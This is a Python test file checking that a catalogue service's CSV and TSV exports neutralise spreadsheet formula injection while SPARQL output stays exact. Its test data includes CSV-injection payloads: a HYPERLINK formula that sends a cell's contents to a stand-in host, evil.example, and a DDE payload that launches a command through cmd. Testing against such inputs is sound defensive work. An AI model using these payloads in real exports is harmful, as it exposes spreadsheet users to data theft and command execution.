"""The catalogue's CSV and TSV downloads are for spreadsheets: a text cell a spreadsheet would
run as a formula gets OWASP's leading ``'`` (``graph.formulas``), as the other CSV exports do;
numbers stay numbers. SPARQL JSON and XML answers of the catalogue, and ``/sparql`` in every
format, stay exact (SPARQL 1.1 Query Results CSV and TSV Formats)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import httpx
import pyoxigraph as ox
import pytest

from graph.namespaces import DEFAULT_BASE
from tests.support.live import Live, running
from tests.support.stores import example_store

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)"]
USAGES = "/queries/tool_usages"
GRAPH = "https://w3id.org/civicgraph/graph/example"
USERS = f"""SELECT DISTINCT ?org {{ ?u a <https://w3id.org/civicgraph/ns#ToolUsage> ;
  <https://w3id.org/civicgraph/ns#organisation> ?org ;
  <https://w3id.org/civicgraph/ns#tool>/<https://w3id.org/civicgraph/ns#software>?
  <{DEFAULT_BASE}id/software/loomio> }} ORDER BY ?org"""


@pytest.fixture(scope="module")
def formulas() -> Iterator[Live]:
    store = example_store()
    found = store.query(USERS)
    assert isinstance(found, ox.QuerySolutions)
    orgs = [row["org"] for row in found]
    assert len(orgs) >= len(FORMULAS)
    triples = " ".join(f"{org} <http://www.w3.org/2000/01/rdf-schema#label> "
                       f"{ox.Literal(text, language='en')} ."
                       for org, text in zip(orgs, FORMULAS, strict=False))
    store.update(f"INSERT DATA {{ GRAPH <{GRAPH}> {{ {triples} }} }}")
    with running(store) as live:
        yield live


def _rows(live: Live, fmt: str, path: str = USAGES, **params: str) -> str:
    response = httpx.get(f"{live.url}{path}", params={"format": fmt, **params}, timeout=60)
    assert response.status_code == 200, response.text
    return response.text


def test_csv_download_neutralises_formulas(formulas: Live) -> None:
    cells = [c for row in csv.reader(io.StringIO(_rows(formulas, "csv"),
                                                 newline="")) for c in row]
    assert any(c.startswith("'") for c in cells)
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not c[1:].replace(".", "").isdigit()]


def test_tsv_download_neutralises_formulas(formulas: Live) -> None:
    text = _rows(formulas, "tsv")
    cells = [c for line in text.splitlines()[1:] for c in line.split("\t")]
    assert any(c.startswith("\"'") for c in cells)
    assert not [c for c in cells if c.startswith(('"=', '"+', '"-', '"@'))]
    assert text.splitlines()[0].startswith("?")   # still SPARQL TSV otherwise


def test_numbers_stay_numbers(formulas: Live) -> None:
    text = _rows(formulas, "csv", path="/queries/tools_by_practice")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    counts = [v for row in rows for k, v in row.items() if k.endswith(("count", "Count", "s"))]
    assert rows and not any(v.startswith("'") for v in counts)


def test_json_and_sparql_stay_exact(formulas: Live) -> None:
    bindings = httpx.get(f"{formulas.url}{USAGES}", timeout=60).json()["results"]["bindings"]
    values = {b[k]["value"] for b in bindings for k in b}
    assert values & set(FORMULAS)
    query = f"SELECT ?l {{ GRAPH <{GRAPH}> {{ ?s ?p ?l FILTER(STRSTARTS(?l, \"=\")) }} }}"
    for media in ("text/csv", "text/tab-separated-values"):
        exact = httpx.get(f"{formulas.url}/sparql", params={"query": query},
                          headers={"Accept": media}).text
        assert "'" + FORMULAS[0] not in exact and FORMULAS[0].split('"')[0] in exact
